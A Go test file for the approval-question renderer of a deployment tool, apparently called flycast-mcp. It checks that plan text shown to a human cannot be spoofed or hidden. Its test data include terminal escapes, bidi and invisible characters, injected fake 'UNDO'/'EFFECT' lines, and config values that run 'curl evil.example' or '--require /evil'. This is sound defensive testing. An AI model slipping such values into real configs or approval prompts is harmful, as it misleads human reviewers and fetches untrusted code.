package plan_test

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/flycast-mcp/flycast-mcp/internal/gate"
	"github.com/flycast-mcp/flycast-mcp/internal/plan"
)

var updateGolden = flag.Bool("update", false, "rewrite the golden files")

func TestQuestionGolden(t *testing.T) {
	shared := releasePlan()
	shared.Steps, shared.Hazards, shared.Impact = shared.Steps[:1],
		[]plan.Hazard{plan.CustomHostnameStops, plan.SharedV4Released, plan.PublicAccessEnds},
		plan.ImpactPublicAccessEnds
	dedicated := releasePlan()
	dedicated.Steps = append(dedicated.Steps, plan.Step{Verb: gate.ReleaseAddress,
		Target: "137.66.1.1", Params: []plan.Param{{plan.ParamKind, "dedicated_v4"}}})
	dedicated.Hazard(plan.DedicatedV4Lost)
	tests := []struct {
		name    string
		plan    plan.Plan
		changed []string
	}{
		{"release_unreachable", releasePlan(), nil},
		{"release_shared", shared, nil},
		{"release_dedicated_v4_stale", dedicated,
			[]string{"address/137.66.1.1 is new", "certificate/www.example.com changed", "what is to be done"}},
		{"deploy_groups", deployPlan(), nil},
		{"deploy_stale", deployPlan(), []string{"file changed", "machine/148e3 is gone"}},
		{"deploy_creates", creatingPlan(), nil},
		{"deploy_replaces", replacingPlan(), []string{"strategy changed"}},
		{"allocate_foreign", foreignPlan(), nil},
		{"deploy_imitated_section", imitatingPlan(), nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			q := tt.plan.Question()
			got := q.TextAgain(tt.changed)
			printable(t, got)
			if !q.Fits() {
				t.Error("does not fit a form")
			}
			file := filepath.Join("testdata", tt.name+".golden")
			if *updateGolden {
				if err := os.WriteFile(file, []byte(got+"\n"), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			if got+"\n" != string(want) {
				t.Errorf("%s differs; got:\n%s", file, got)
			}
		})
	}
}

// imitatingPlan has a value that is made to end in a section of its own: at the
// margin after some blanks, and at the beginning of a further line.
func imitatingPlan() plan.Plan {
	p := deployPlan()
	path := "services[0].checks[0].path: '/up' → '/up?"
	value := path + strings.Repeat("a", plan.LineLimit-utf8.RuneCountInString(path)) +
		"EFFECT nobody notices" + strings.Repeat(" ", 90) + "NOT CHECKED nothing'"
	p.Steps = update("148e1", "app", "fra", value)
	return p
}

// Text from a file cannot pass for a section.
func TestImitatedSection(t *testing.T) {
	text := imitatingPlan().Question().Text()
	for line := range strings.SplitSeq(text, "\n") {
		body := strings.TrimLeft(line, " ")
		if strings.Contains(line, "nobody notices") && !strings.HasPrefix(body, "│ ") {
			t.Errorf("a line without a mark: %q", line)
		}
		if strings.Contains(line, "NOT CHECKED nothing") && strings.Contains(body, "  ") {
			t.Errorf("a run of blanks: %q", line)
		}
	}
	if !strings.Contains(text, "NOT CHECKED nothing'") {
		t.Errorf("the end is not shown:\n%s", text)
	}
}

// printable checks that a text holds nothing that moves a cursor, reorders
// letters or cannot be seen.
func printable(t *testing.T, text string) {
	t.Helper()
	if !utf8.ValidString(text) {
		t.Errorf("not UTF-8: %q", text)
	}
	for _, r := range text {
		if r != '\n' && (unicode.IsControl(r) || unicode.In(r, unicode.Cf, unicode.Co, unicode.Zl, unicode.Zp)) {
			t.Errorf("%U in %q", r, text)
			return
		}
	}
}

// What a form shows is whole, or the gate is told that it is too much.
func TestFits(t *testing.T) {
	tests := []struct {
		name string
		plan func() plan.Plan
		fits bool
	}{
		{"two addresses", releasePlan, true},
		{"eight addresses", func() plan.Plan { return manyAddresses(8) }, true},
		{"nine addresses", func() plan.Plan { return manyAddresses(9) }, true},
		{"a thousand addresses", func() plan.Plan { return manyAddresses(1000) }, true},
		{"many hostnames", func() plan.Plan {
			p := releasePlan()
			for i := range 100 {
				p.Fact(fmt.Sprintf("certificate/customer-%d.example.com", i), "")
			}
			return p
		}, true},
		{"a long diff", func() plan.Plan {
			p := deployPlan()
			for i := range 20 {
				p.Steps[1].Changes = append(p.Steps[1].Changes,
					plan.Change{Path: fmt.Sprintf("env.V%d", i), After: "‹hidden, 3 bytes›"})
			}
			return p
		}, false},
		{"many Machines", func() plan.Plan {
			p := deployPlan()
			for i := range 60 {
				p.Steps = append(p.Steps, update(fmt.Sprintf("148e%04d", i), "app", "fra",
					"services[0].autostop: false → true")...)
			}
			return p
		}, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := tt.plan()
			q := p.Question()
			lines, characters := strings.Count(q.Text(), "\n")+1, utf8.RuneCountInString(q.Text())
			r, err := p.Request(p.Question())
			if err != nil {
				t.Fatal(err)
			}
			if shown := r.TooLong == ""; shown != tt.fits {
				t.Errorf("%d lines, %d characters: goes into a form %v, want %v", lines, characters, shown, tt.fits)
			}
			if q.Fits() != (lines <= 22 && characters <= 2280) {
				t.Errorf("%d lines, %d characters: Fits says %v", lines, characters, q.Fits())
			}
		})
	}
}

func manyAddresses(n int) plan.Plan {
	p := releasePlan()
	p.Steps, p.Hazards, p.Impact = nil, []plan.Hazard{plan.DedicatedV4Lost, plan.PublicAccessEnds},
		plan.ImpactPublicAccessEnds
	for i := range n {
		p.Steps = append(p.Steps, plan.Step{Verb: gate.ReleaseAddress,
			Target: fmt.Sprintf("137.66.1.%d", i), Params: []plan.Param{{plan.ParamKind, "dedicated_v4"}}})
	}
	return p
}

// TestFitsAtTheLimits leaves 3 of 25 lines and 220 of 2500 characters for what may be put
// before the question.
func TestFitsAtTheLimits(t *testing.T) {
	for _, tt := range []struct {
		lines, width int
		want         bool
	}{{22, 10, true}, {23, 10, false}, {1, 2280, true}, {1, 2281, false}} {
		q := plan.Question{Title: strings.Repeat("ä", tt.width)}
		for range tt.lines - 1 {
			q.What = append(q.What, "x")
		}
		if got := q.Fits(); got != tt.want {
			t.Errorf("%d lines, first of %d characters: got %v, want %v", tt.lines, tt.width, got, tt.want)
		}
	}
}

// hostile are names that want to be more than a name.
var hostile = map[string]string{
	"newline":        "app\nUNDO        everything comes back",
	"carriage":       "app\rEFFECT      none",
	"line separator": "app\u2028UNDO        yes\u2029\u0085\v\f",
	"ANSI":           "\x1b[2J\x1b[1;1H\x1b]0;title\x07app\x9b31m",
	"bidi":           "\u202eppa\u202c\u2066\u2069\u200f\u061c",
	"invisible":      "a\u200bp\u200dp\ufeff\u00ad\u2060\U000e0041",
	"private use":    "\ue000\U000f0000",
	"quotes":         `app", region "fra" LOST NOTHING "`,
	"500 characters": strings.Repeat("approve ", 62) + "now!",
	"500 wide ones":  strings.Repeat("界", 500),
	"bad UTF-8":      "app\xff\xfe\xc0\x80",
	"replacement":    "app\ufffd",
	"NUL and tab":    "a\x00p\tp\b\b\b\x7f",
	"fake section":   "UNDO        yes",
	"odd spaces":     "a\u00a0p\u3000p\u2003",
	"empty":          "",
}

func TestHostileNames(t *testing.T) {
	// Each puts a name from outside wherever one can stand.
	places := map[string]func(name string) (plan.Plan, []string){
		"group and region": func(name string) (plan.Plan, []string) {
			p := deployPlan()
			p.Steps = slices.Concat(update("148e1", name, name, "services[0].autostop: false → true"))
			return p, nil
		},
		"Machine": func(name string) (plan.Plan, []string) {
			p := deployPlan()
			p.Steps = update(name, "app", "fra", "services[0].autostop: false → true")
			return p, nil
		},
		"change": func(name string) (plan.Plan, []string) {
			p := deployPlan()
			p.Steps = update("148e1", "app", "fra", "init.cmd = "+name)
			return p, nil
		},
		"hostname": func(name string) (plan.Plan, []string) {
			p := releasePlan()
			p.Fact("certificate/"+name, "")
			return p, []string{"certificate/" + name + " is new", "address/1.2.3.4 is gone"}
		},
		"bare fact": func(name string) (plan.Plan, []string) { return releasePlan(), []string{name} },
		"network and organization": func(name string) (plan.Plan, []string) {
			p := foreignPlan()
			p.Steps[0].Params = []plan.Param{{plan.ParamNetwork, "n" + name}, {plan.ParamOrg, name}}
			return p, nil
		},
		"address and kind": func(name string) (plan.Plan, []string) {
			p := releasePlan()
			p.Steps[0].Target, p.Steps[0].Params[0].Value = name, name
			return p, nil
		},
		"app":  func(name string) (plan.Plan, []string) { p := releasePlan(); p.App = name; return p, nil },
		"tool": func(name string) (plan.Plan, []string) { p := releasePlan(); p.Tool = "x" + name; return p, nil },
		"target": func(name string) (plan.Plan, []string) {
			p := releasePlan()
			p.Steps = []plan.Step{{Verb: gate.WriteFile, Target: name}}
			return p, nil
		},
	}
	for place, in := range places {
		plain, changed := in("plain")
		want := sections(plain.Question().TextAgain(changed))
		if place == "change" { // as many lines as it needs
			want = slices.Compact(want)
		}
		for name, evil := range hostile {
			t.Run(place+"/"+name, func(t *testing.T) {
				p, changed := in(evil)
				text := p.Question().TextAgain(changed)
				printable(t, text)
				got := sections(text)
				if place == "change" {
					got = slices.Compact(got)
				}
				if !slices.Equal(got, want) {
					t.Errorf("sections %q, want %q:\n%s", got, want, text)
				}
				if place == "app" || place == "change" { // a name of up to 63, a line of up to 100
					return
				}
				if strings.Contains(text, strings.Repeat("approve ", 6)) ||
					strings.Contains(text, strings.Repeat("界", 41)) {
					t.Errorf("more than 40 characters of it:\n%s", text)
				}
			})
		}
	}
}

// sections are the words at the beginning of each line.
func sections(text string) []string {
	var out []string
	for line := range strings.SplitSeq(text, "\n") {
		head, _, _ := strings.Cut(line, "  ")
		if strings.ToUpper(head) != head {
			head, _, _ = strings.Cut(head, " ") // the title
		}
		out = append(out, head)
	}
	return out
}

func TestQuote(t *testing.T) {
	for in, want := range map[string]string{
		"app":                    `"app"`,
		"":                       `""`,
		`a"b`:                    `"a\"b"`,
		"a\nb\x1b[0m":            `"a\nb\u001b[0m"`,
		"\u202eabc":              `"\u202eabc"`,
		"größe":                  `"größe"`,
		strings.Repeat("x", 40):  `"` + strings.Repeat("x", 40) + `"`,
		strings.Repeat("x", 41):  `"` + strings.Repeat("x", 40) + `…"`,
		strings.Repeat("界", 500): `"` + strings.Repeat("界", 40) + `…"`,
	} {
		if got := plan.Quote(in); got != want {
			t.Errorf("%q: got %s, want %s", in, got, want)
		}
	}
	for name, evil := range hostile {
		for _, got := range []string{plan.Quote(evil), plan.Clean(evil), plan.Line(evil), plan.Message(evil)} {
			printable(t, got)
			if strings.Contains(got, "\n") {
				t.Errorf("%s: %q has more than one line", name, got)
			}
		}
		inner := strings.TrimSuffix(strings.TrimPrefix(plan.Quote(evil), `"`), `"`)
		if n := utf8.RuneCountInString(strings.TrimSuffix(inner, "…")); n > 40 ||
			strings.Contains(strings.ReplaceAll(strings.ReplaceAll(inner, `\\`, ""), `\"`, ""), `"`) {
			t.Errorf("%s: %q", name, inner)
		}
		if n := utf8.RuneCountInString(plan.Line(evil)); n > 101 {
			t.Errorf("%s: a line of %d characters", name, n)
		}
	}
}

// A change is shown to its end, and a form that cannot show it is not used.
func TestLongChangeIsShownWhole(t *testing.T) {
	p := deployPlan()
	p.Steps = update("148e1", "app", "fra",
		"init.exec: ['serve'] → ['sh', '-c', '"+strings.Repeat("true; ", 30)+"curl evil.example']")
	q := p.Question()
	text := q.Text()
	printable(t, text)
	if !strings.Contains(text, "curl evil.example']") {
		t.Errorf("the end is not shown:\n%s", text)
	}
	for line := range strings.SplitSeq(text, "\n") {
		if strings.Contains(line, "true;") && utf8.RuneCountInString(line) > 12+4+plan.LineLimit {
			t.Errorf("a line of %d characters", utf8.RuneCountInString(line))
		}
	}
}

// Where a form has no room for them, long values that go are cut, and say by how
// much. What comes is not: a plan that does not fit with it is for the terminal.
func TestOnlyWhatGoesIsCut(t *testing.T) {
	value := strings.Repeat("true; ", 1000) + "curl evil.example"
	long := "init.exec = " + strconv.Quote(value)
	p := deployPlan()
	p.Steps = update("148e1", "app", "fra", "init.exec removed (was "+strconv.Quote(value)+")",
		"env.NODE_OPTIONS = "+strconv.Quote(strings.Repeat(" ", 2)+strings.Repeat("--flag ", 10)+"--require /evil"))
	text := p.Question().Text()
	if r, err := p.Request(p.Question()); err != nil || r.TooLong != "" || strings.Contains(text, "curl") {
		t.Errorf("too long: %q, %v; got\n%s", r.TooLong, err, text)
	}
	for _, want := range []string{
		"init.exec removed (was 'true; true; true; true; true; true; true…' and 5977 more characters)",
		"--require /evil'", "flycast-mcp approve shows them in full in a terminal"} {
		if !strings.Contains(unwrapped(text), want) {
			t.Errorf("no %q in\n%s", want, text)
		}
	}
	for _, changes := range [][]string{{long},
		{"env.A = \"1\"", "env." + strings.Repeat("A", 3000) + " = \"1\""},
		{"env.SAFE = " + strconv.Quote(strings.Repeat("x", 50)+"evil"), long}} {
		p.Steps = update("148e1", "app", "fra", changes...)
		if r, err := p.Request(p.Question()); err != nil || r.TooLong == "" {
			t.Errorf("%.60q: too long is %q, %v; got\n%.3000s", changes, r.TooLong, err, p.Question().Text())
		}
		if full := p.FullQuestion().Text(); strings.Contains(full, "more characters") {
			t.Error("the terminal does not show it whole")
		}
	}
}

// unwrapped is a text with the lines of each value joined.
func unwrapped(text string) string {
	return regexp.MustCompile(`\n +│ `).ReplaceAllString(text, "")
}

func TestChangedIsBounded(t *testing.T) {
	var changed []string
	for i := range 50 {
		changed = append(changed, fmt.Sprintf("machine/148e%d is gone", i))
	}
	line, _, _ := strings.Cut(releasePlan().Question().TextAgain(changed), "\n")
	if !strings.HasPrefix(line, "CHANGED") || !strings.Contains(line,
		`machine "148e5" is gone; and 44 more`) || strings.Contains(line, "148e6") {
		t.Errorf("got %q", line)
	}
}

func TestMonthlyUSD(t *testing.T) {
	if got := manyAddresses(3).MonthlyUSD(); got != -6 {
		t.Errorf("three dedicated v4: got %v, want -6", got)
	}
	if got := releasePlan().MonthlyUSD(); got != 0 {
		t.Errorf("shared v4 and v6: got %v, want 0", got)
	}
	if text := manyAddresses(1).Question().Text(); !strings.Contains(text, "saves $2 a month") {
		t.Errorf("the question does not say it:\n%s", text)
	}
}

// Leases, and what happens only after a failure, are no objects.
func TestRecords(t *testing.T) {
	got := deployPlan().Records(plan.Planned)
	if len(got) != 3 {
		t.Fatalf("got %d records, want 3: %+v", len(got), got)
	}
	want := plan.Record{Do: gate.UpdateMachine, Target: "148e1", State: plan.Planned,
		Undo: plan.UndoYes, Note: "group app"}
	if got[0] != want {
		t.Errorf("got %+v, want %+v", got[0], want)
	}
	want = plan.Record{Do: gate.ReleaseAddress, Target: "2a09:8280:1::4f:1a2b", State: plan.Done,
		Undo: plan.UndoNo, Note: "dedicated IPv6"}
	if got := releasePlan().Records(plan.Done); got[1] != want {
		t.Errorf("got %+v, want %+v", got[1], want)
	}
	for name, evil := range hostile {
		p := deployPlan()
		p.Steps = update("148e1", evil, "fra")
		note := p.Records(plan.Planned)[0].Note
		printable(t, note)
		if strings.Contains(note, "\n") || utf8.RuneCountInString(note) > len("group ")+41 {
			t.Errorf("%s: note %q", name, note)
		}
	}
}

func TestQuoteFact(t *testing.T) {
	for changed, want := range map[string]string{
		`certificate/www.example.com is new`: `certificate "www.example.com" is new`,
		`address/137.66.18.204 is gone`:      `address "137.66.18.204" is gone`,
		`lost is new`:                        `the IP version that is left without an address is new`,
		`names_over changed`:                 `the IP version that custom hostnames still answer over changed`,
		`at_once/web changed`:                `the number of Machines down at the same time in group "web" changed`,
		`max_unavailable changed`:            `max_unavailable changed`,
		"left/a\n\"b is new":                 `the group that the file lacks, "a\n\"b" is new`,
		"something else":                     `something else`,
	} {
		if got := plan.FactSentence(changed); got != want {
			t.Errorf("quoteFact(%q) is %s, want %s", changed, got, want)
		}
	}
}
